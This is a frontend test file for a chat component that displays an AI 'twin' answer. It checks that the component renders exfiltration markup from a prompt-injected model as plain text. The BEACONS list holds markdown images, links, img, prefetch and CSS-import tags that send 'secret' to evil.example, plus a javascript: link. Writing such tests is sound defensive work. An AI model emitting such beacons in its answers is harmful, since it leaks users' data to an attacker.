import { screen } from '@testing-library/react';
import { expect, test } from 'vitest';
import type { Message } from '../../shared/chat/api/chat.api';
import { renderWithProviders } from '../../testing/render';
import { TwinAnswer } from './twin-answer';

/** What a model writes that was told to send something away by what it read. */
const BEACONS = [
  '![x](https://evil.example/?q=secret)',
  '[press here](https://evil.example/?q=secret)',
  '<img src="https://evil.example/?q=secret">',
  '<a href="javascript:alert(1)">more</a>',
  '<link rel="prefetch" href="https://evil.example/?q=secret">',
  '<style>@import url(https://evil.example/?q=secret)</style>',
  '[1]: https://evil.example/?q=secret',
  'https://evil.example/?q=secret',
];

test.each(BEACONS)('P3: an answer sends nothing away and leads nowhere else: %s is text', (text) => {
  const message = {
    id: 'm1',
    role: 'twin',
    text: `Yes. ${text}`,
    status: 'complete',
    createdAt: '2026-05-03T10:00:00.000Z',
    citations: [],
    actions: [],
    runs: [],
  } as unknown as Message;
  renderWithProviders(<TwinAnswer message={message} onReply={undefined} />);
  expect(screen.getByText(`Yes. ${text}`)).toBeInTheDocument();
  for (const role of ['img', 'link', 'form', 'button'])
    expect(screen.queryByRole(role), role).not.toBeInTheDocument();
  // Nothing but paragraphs: an element of it would cut the text in two.
  expect(screen.getByText(`Yes. ${text}`).innerHTML).not.toMatch(/<\w/);
});
